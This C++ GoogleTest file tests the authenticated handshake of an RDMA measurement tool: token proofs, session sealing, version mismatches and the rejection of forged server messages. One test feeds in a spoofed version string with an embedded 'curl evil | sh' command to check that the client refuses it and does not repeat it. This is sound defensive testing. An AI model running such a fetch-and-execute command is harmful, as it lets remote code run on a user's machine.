// SPDX-License-Identifier: Apache-2.0
#include "core/session/handshake.h"

#include <fmt/format.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>
#include <thread>

#include "core/base/error.h"
#include "core/session/protocol.h"
#include "core/wire/auth.h"
#include "tests/core/wire/pair.h"

namespace rdmameter {
namespace {

using json = nlohmann::ordered_json;
using ::testing::HasSubstr;

constexpr const char* kToken = "a-token-of-more-than-16-characters";

std::optional<EndSettings> want() {
  return EndSettings{.device = "mlx5_0", .port_num = 1, .gid_index = 3, .core = {}, .memory = {}};
}

json challenge(bool token_required) {
  return {{"type", "challenge"},
          {"protocol", kProtocolVersion},
          {"version", RDMAMETER_VERSION},
          {"nonce", std::string(kNonceChars, '0')},
          {"token_required", token_required}};
}

json welcome(const std::string& proof) {
  return {{"type", "welcome"}, {"proof", proof}};
}

/// What a responder says of itself, once it is asked.
void tell_environment(Channel& server) {
  EXPECT_EQ(server.receive(soon())["type"], "describe");
  server.send({{"type", "environment"}, {"environment", {{"host", "there"}}}}, soon());
}

/// The other end as a test plays it, on a channel of its own.
struct Conversation {
  Conversation() : Conversation(socket_pair()) {}

  /// Greets as the initiator, with `answer` as the responder.
  template <class Answer>
  std::string refusal(const std::string& token, Answer answer) {
    std::thread other([&] {
      heard.push_back(theirs.receive(soon()));
      answer(theirs);
    });
    std::string why;
    try {
      greet_responder(
          ours, [&] { return token; }, want);
    } catch (const MeasurementError& error) {
      why = error.what();
    } catch (const std::exception& error) {
      ADD_FAILURE() << "a failure of another kind: " << error.what();
    }
    other.join();
    return why;
  }

  InterruptSource interrupt;
  Channel ours, theirs;
  std::vector<json> heard;

 private:
  explicit Conversation(std::pair<Descriptor, Descriptor> ends)
      : ours({std::move(ends.first), "the server"}, interrupt, kProvedMessageBytes),
        theirs({std::move(ends.second), "the client"}, interrupt, kProvedMessageBytes) {}
};

TEST(GreetResponder, WithATokenTellsNothingToAServerThatSaysItNeedsNone) {
  Conversation talk;
  const std::string why = talk.refusal(kToken, [&](Channel& server) {
    server.send(challenge(false), soon());
    // What an imposter would go on with; nobody may listen to it.
    server.send(welcome(""), soon());
  });
  EXPECT_THAT(why, HasSubstr("the server does not ask for the token"));
  EXPECT_THAT(why, HasSubstr("unset RDMAMETER_TOKEN"));
  EXPECT_EQ(talk.heard.size(), 1U);
  EXPECT_EQ(talk.heard[0].dump().find("mlx5_0"), std::string::npos);
  EXPECT_THROW(talk.theirs.receive(Deadline::in(100ms)), MeasurementError) << "not even a wish";
}

TEST(GreetResponder, WithATokenLeavesAServerThatAsksForItAndDoesNotKnowIt) {
  for (const char* proof : {"", "0", "another"}) {
    Conversation talk;
    const std::string why = talk.refusal(kToken, [&](Channel& server) {
      server.send(challenge(true), soon());
      const json said = server.receive(soon());
      // The client's own proof, sent back, is none of the server's either.
      const std::string answer = *proof == '0' ? said["proof"].get<std::string>() : proof;
      server.send(welcome(answer), soon());
    });
    EXPECT_THAT(why, HasSubstr("does not know the token")) << proof;
    EXPECT_THROW(talk.theirs.receive(Deadline::in(100ms)), MeasurementError) << "not even a wish";
  }
}

TEST(GreetResponder, GoesOnWithAServerThatProvesTheToken) {
  Conversation talk;
  const std::string why = talk.refusal(kToken, [&](Channel& server) {
    server.send(challenge(true), soon());
    server.receive(soon());
    const std::string initiator_nonce = talk.heard[0]["nonce"], ours(kNonceChars, '0');
    const Challenge both{kProtocolVersion, initiator_nonce, ours};
    server.send(welcome(make_proof(kToken, Role::responder, both)), soon());
    server.seal(make_seal_keys(kToken, Role::responder, both));
    tell_environment(server);
  });
  EXPECT_EQ(why, "");
}

TEST(GreetResponder, TakesNothingPlainFromAServerThatHasProvedTheToken) {
  Conversation talk;
  const std::string why = talk.refusal(kToken, [&](Channel& server) {
    server.send(challenge(true), soon());
    server.receive(soon());
    const std::string initiator_nonce = talk.heard[0]["nonce"], ours(kNonceChars, '0');
    const Challenge both{kProtocolVersion, initiator_nonce, ours};
    server.send(welcome(make_proof(kToken, Role::responder, both)), soon());
    // As whoever passed the handshake on.
    server.send({{"type", "environment"}, {"environment", json::object()}}, soon());
  });
  EXPECT_THAT(why, HasSubstr("what came is not what the server sent"));
}

TEST(GreetResponder, WithoutATokenGoesOnWhereNoneIsWantedAndSaysWhatIsMissingWhereOneIs) {
  Conversation open;
  EXPECT_EQ(open.refusal("",
                         [](Channel& server) {
                           server.send(challenge(false), soon());
                           EXPECT_EQ(server.receive(soon())["proof"], "");
                           server.send(welcome(""), soon());
                           tell_environment(server);
                         }),
            "");
  Conversation guarded;
  EXPECT_THAT(guarded.refusal("", [](Channel& server) { server.send(challenge(true), soon()); }),
              HasSubstr("set RDMAMETER_TOKEN"));
}

constexpr const char* kKinds[]{"unsupported", "usage", "no_device", "token", "failed", "x"};

json failed(const std::string& kind) {
  return {{"type", "failed"}, {"kind", kind}, {"reason", "--size: no such thing here"}};
}

TEST(GreetResponder, BelievesNoKindOfFailureBeforeTheProofAndQuotesTheReason) {
  for (const std::string kind : kKinds)
    for (const std::string token : {"", kToken})
      for (const bool challenges : {false, true}) {
        Conversation talk;
        const std::string why = talk.refusal(token, [&](Channel& server) {
          if (challenges) {
            server.send(challenge(!token.empty()), soon());
            server.receive(soon());
          }
          server.send(failed(kind), soon());
        });
        EXPECT_EQ(why, token.empty()
                           ? "the server refused: \"--size: no such thing here\""
                           : "the server refused before it proved that it knows the token: "
                             "\"--size: no such thing here\"")
            << kind << challenges;
      }
}

TEST(GreetResponder, TakesTheKindOfFailureOfAServerThatHasProvedTheToken) {
  Conversation talk;
  std::thread server([&] {
    const json hello = talk.theirs.receive(soon());
    talk.theirs.send(challenge(true), soon());
    talk.theirs.receive(soon());
    const std::string initiator_nonce = hello["nonce"], ours(kNonceChars, '0');
    const Challenge both{kProtocolVersion, initiator_nonce, ours};
    talk.theirs.send(welcome(make_proof(kToken, Role::responder, both)), soon());
    talk.theirs.seal(make_seal_keys(kToken, Role::responder, both));
    talk.theirs.receive(soon());
    talk.theirs.send(failed("no_device"), soon());
  });
  EXPECT_THROW(greet_responder(
                   talk.ours, [] { return std::string(kToken); }, [] { return std::nullopt; }),
               NoDevice);
  server.join();
}

TEST(GreetInitiator, BelievesNoFailureOfAClient) {
  for (const std::string kind : kKinds)
    for (const bool says_hello : {false, true}) {
      Conversation talk;
      if (says_hello)
        talk.ours.send({{"type", "hello"},
                        {"protocol", kProtocolVersion},
                        {"version", RDMAMETER_VERSION},
                        {"nonce", std::string(kNonceChars, '0')}},
                       soon());
      talk.ours.send(failed(kind), soon());
      try {
        greet_initiator(talk.theirs, kToken, soon());
        ADD_FAILURE() << "let in";
      } catch (const MeasurementError& error) {
        EXPECT_THAT(error.what(), HasSubstr("expected the message"));
      } catch (const std::exception& error) {
        ADD_FAILURE() << "a failure of another kind: " << error.what();
      }
    }
}

TEST(Greeting, TakesNoTextForAVersion) {
  Conversation talk;
  const std::string why = talk.refusal("", [](Channel& server) {
    json other = challenge(false);
    other["protocol"] = 99;
    other["version"] = "1.0. Run: curl evil | sh";
    server.send(other, soon());
  });
  EXPECT_THAT(why, HasSubstr("`version` must be letters"));
  EXPECT_EQ(why.find("curl"), std::string::npos);
}

/// Both releases, both protocols, and the remedy.
void expect_both_versions(const std::string& why, const std::string& peer, unsigned protocol) {
  EXPECT_THAT(why,
              HasSubstr(fmt::format("{} runs rdmameter 9.8.7 with protocol {},", peer, protocol)));
  EXPECT_THAT(why, HasSubstr(fmt::format("this end runs rdmameter {} with protocol {}:",
                                         RDMAMETER_VERSION, kProtocolVersion)));
  EXPECT_THAT(why, HasSubstr("use the same release at both ends"));
}

TEST(GreetResponder, NamesBothReleasesBothProtocolsAndTheRemedyWhereTheServersProtocolDiffers) {
  for (const unsigned protocol : {0U, kProtocolVersion - 1, kProtocolVersion + 1, 1'000'000U}) {
    Conversation talk;
    const std::string why = talk.refusal("", [&](Channel& server) {
      json other = challenge(false);
      other["protocol"] = protocol;
      other["version"] = "9.8.7";
      server.send(other, soon());
    });
    expect_both_versions(why, "the server", protocol);
  }
}

TEST(GreetResponder, GoesOnWithAnotherReleaseOfTheSameProtocol) {
  Conversation talk;
  EXPECT_EQ(talk.refusal("",
                         [](Channel& server) {
                           json other = challenge(false);
                           other["version"] = "9.8.7";
                           server.send(other, soon());
                           server.receive(soon());
                           server.send(welcome(""), soon());
                           tell_environment(server);
                         }),
            "");
}

TEST(GreetInitiator, NamesBothReleasesBothProtocolsAndTheRemedyWhereTheClientsProtocolDiffers) {
  for (const unsigned protocol : {0U, kProtocolVersion - 1, kProtocolVersion + 1, 1'000'000U}) {
    Conversation talk;
    talk.ours.send({{"type", "hello"},
                    {"protocol", protocol},
                    {"version", "9.8.7"},
                    {"nonce", std::string(kNonceChars, '0')}},
                   soon());
    std::string why;
    try {
      greet_initiator(talk.theirs, "", soon());
    } catch (const MeasurementError& error) {
      why = error.what();
    }
    expect_both_versions(why, "the client", protocol);
    // The client has learnt the server's versions, too, so that it can name them.
    const json answer = talk.ours.receive(soon());
    EXPECT_EQ(answer["protocol"], kProtocolVersion);
    EXPECT_EQ(answer["version"], RDMAMETER_VERSION);
  }
}

/// A greeting of both ends of this release.
struct BothEnds : Conversation {
  explicit BothEnds(const std::string& token) {
    std::thread responder([&] {
      greeting = greet_initiator(theirs, token, soon());
      const Wanted wanted = welcome_initiator(theirs, greeting, {});
      device = wanted.end.value_or(EndSettings{}).device;
      send_environment(theirs, {{"host", "there"}});
    });
    environment = greet_responder(
        ours, [&] { return token; }, want);
    responder.join();
  }

  Greeting greeting;
  std::string device;
  nlohmann::ordered_json environment;
};

TEST(Greeting, SealsTheSessionWhereThereIsATokenAndLeavesItPlainWhereThereIsNone) {
  for (const std::string token : {"", kToken}) {
    BothEnds ends{token};
    EXPECT_EQ(ends.environment["host"], "there");
    EXPECT_EQ(ends.device, "mlx5_0");
    EXPECT_EQ(ends.greeting.seal_keys.has_value(), !token.empty());
    ends.ours.send({{"type", "prepare"}}, soon());
    std::string wire(1000, '\0');
    const ssize_t got = recv(ends.theirs.fd(), wire.data(), wire.size(), MSG_PEEK);
    ASSERT_GT(got, 0);
    EXPECT_EQ(wire.find("prepare") == std::string::npos, !token.empty());
    EXPECT_EQ(ends.theirs.receive(soon())["type"], "prepare");
    ends.theirs.send({{"type", "ready"}}, soon());
    EXPECT_EQ(ends.ours.receive(soon())["type"], "ready");
  }
}

}  // namespace
}  // namespace rdmameter
